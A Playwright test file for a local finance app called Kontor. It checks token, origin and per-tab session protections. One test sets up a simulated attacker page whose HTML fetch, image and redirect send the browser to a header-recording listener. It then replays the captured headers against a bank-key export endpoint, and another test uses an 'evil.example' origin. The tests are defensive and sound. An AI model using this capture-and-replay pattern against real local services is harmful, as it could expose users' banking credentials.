import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { useKontorHost } from './kontor-host';

const host = useKontorHost();

const statusCall = (headers: Record<string, string>) =>
  fetch(`${host().origin}/api/invoke/app.status`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', ...headers },
    body: '{}',
  });

/** A server of some other program on 127.0.0.1, on a free port of its own. */
async function localServer(handle: Parameters<typeof createServer>[1]): Promise<{ server: Server; origin: string }> {
  const server = createServer(handle);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

const close = (server: Server) => new Promise<void>((resolve) => server.close(() => resolve()));

async function openKontor(page: Page, url = host().url) {
  await page.goto(url);
  // An empty ledger opens on the set-up checklist.
  await expect(page.getByRole('heading', { level: 1, name: 'Set-up' })).toBeVisible();
}

test('the API refuses a caller without the token, and a page from another origin even with it', async () => {
  const anonymous = await statusCall({});
  expect(anonymous.status).toBe(401);

  const foreign = await statusCall({ 'X-Kontor-Token': host().token, Origin: 'http://evil.example' });
  expect(foreign.status).toBe(403);

  // The same call with the token and no foreign origin is fine: it was the origin that was refused.
  const own = await statusCall({ 'X-Kontor-Token': host().token });
  expect(own.status).toBe(200);
  expect(await own.json()).toMatchObject({ ok: true, value: { dataDir: host().dataDir } });
});

test('a page on another port that sends the browser to a listener of its own gets no credential of Kontor, and what the listener got opens nothing', async ({
  page,
  context,
}) => {
  // The user works in Kontor in this browser.
  await openKontor(page);
  await expect(page).not.toHaveURL(/token/);

  // Another local program records every header a browser sends it ...
  const received: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
  const listener = await localServer((req, res) => {
    received.push({ url: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'Content-Type': 'text/plain' }).end('thanks');
  });
  // ... and a page on yet another port (same site as Kontor, another origin) sends the browser there: image, fetch with credentials, navigation.
  const attacker = await localServer((_req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<!doctype html><img src="${listener.origin}/img">
<script>fetch('${listener.origin}/fetch', { credentials: 'include', mode: 'no-cors' }).finally(() => { location.href = '${listener.origin}/navigate'; });</script>`);
  });
  try {
    const attack = await context.newPage();
    await attack.goto(`${attacker.origin}/`);
    await attack.waitForURL(`${listener.origin}/navigate`);
    expect(received.map((r) => r.url)).toEqual(expect.arrayContaining(['/img', '/fetch', '/navigate']));

    // Whatever Kontor's credential in this browser is (start token, the tab's session, any cookie), none of it reached the listener.
    const tabStorage = await page.evaluate(() => Object.values(window.sessionStorage));
    const cookies = (await context.cookies()).map((c) => c.value);
    const secrets = [host().token, ...tabStorage, ...cookies].filter((s) => s.length >= 16);
    const everything = JSON.stringify(received);
    for (const secret of secrets) expect(everything, 'a credential of Kontor reached another local server').not.toContain(secret);

    // The listener replays everything it got (as the reported attack did, its own program choosing Host and Origin): refused.
    for (const { headers } of received) {
      const replay = Object.fromEntries(
        Object.entries(headers).filter(
          ([name, value]) => typeof value === 'string' && !['host', 'origin', 'connection', 'content-length', 'keep-alive', 'transfer-encoding'].includes(name),
        ),
      ) as Record<string, string>;
      const stolen = await fetch(`${host().origin}/api/invoke/bankAccess.exportKeys`, {
        method: 'POST',
        headers: { ...replay, 'Content-Type': 'application/json' },
        body: JSON.stringify({ id: 1, password: 'chosen by the attacker' }),
      });
      expect(stolen.status).toBe(401);
    }

    // The credential exists, it just never left: the tab holds one session, and Kontor sets no cookie.
    expect(tabStorage).toHaveLength(1);
    expect(cookies).toEqual([]);
  } finally {
    await close(listener.server);
    await close(attacker.server);
  }
});

test('the tab keeps its session over a reload, another tab opens from the printed address, and a tab without it gets nothing', async ({ context }) => {
  const first = await context.newPage();
  await openKontor(first);
  await first.reload();
  await expect(first.getByRole('heading', { level: 1, name: 'Set-up' })).toBeVisible();

  const second = await context.newPage();
  await openKontor(second);
  const sessionOf = (p: Page) => p.evaluate(() => Object.values(window.sessionStorage));
  expect(await sessionOf(second)).not.toEqual(await sessionOf(first));

  // The app's address without the token: the shell loads, and says how to get in.
  const third = await context.newPage();
  await third.goto(`${host().origin}/#/banks`);
  await expect(third.getByRole('heading', { name: 'This Kontor session has ended' })).toBeVisible();
});

test('the event stream reaches the page with the tab’s session in a header', async ({ page }) => {
  await openKontor(page);
  const events = page.waitForResponse((r) => new URL(r.url()).pathname === '/api/events');
  await page.getByRole('navigation').getByRole('link', { name: 'Settings' }).click();
  const response = await events;
  expect(response.status()).toBe(200);
  expect(await response.request().headerValue('x-kontor-session')).toMatch(/^[A-Za-z0-9_-]{40,}$/);
  // A backup started elsewhere (a script) shows its progress here: the events arrive.
  expect((await host().invoke('ledger.backup', {})).ok).toBe(true);
  await expect(page.getByRole('progressbar', { name: 'Backup progress' })).toBeVisible();
});

test('a tab whose session the host does not know says how to get back, and drops it', async ({ page }) => {
  await openKontor(page);
  // As after a restart of Kontor on the same port: the tab holds a session the host never heard of.
  await page.evaluate(() => {
    for (const key of Object.keys(window.sessionStorage)) window.sessionStorage.setItem(key, 'x'.repeat(43));
  });
  await page.reload();
  await expect(page.getByRole('heading', { name: 'This Kontor session has ended' })).toBeVisible();
  await expect(page.getByText('Open the address Kontor printed again')).toBeVisible();
  expect(await page.evaluate(() => window.sessionStorage.length)).toBe(0);
  // The printed address works again in the same tab.
  await openKontor(page);
});
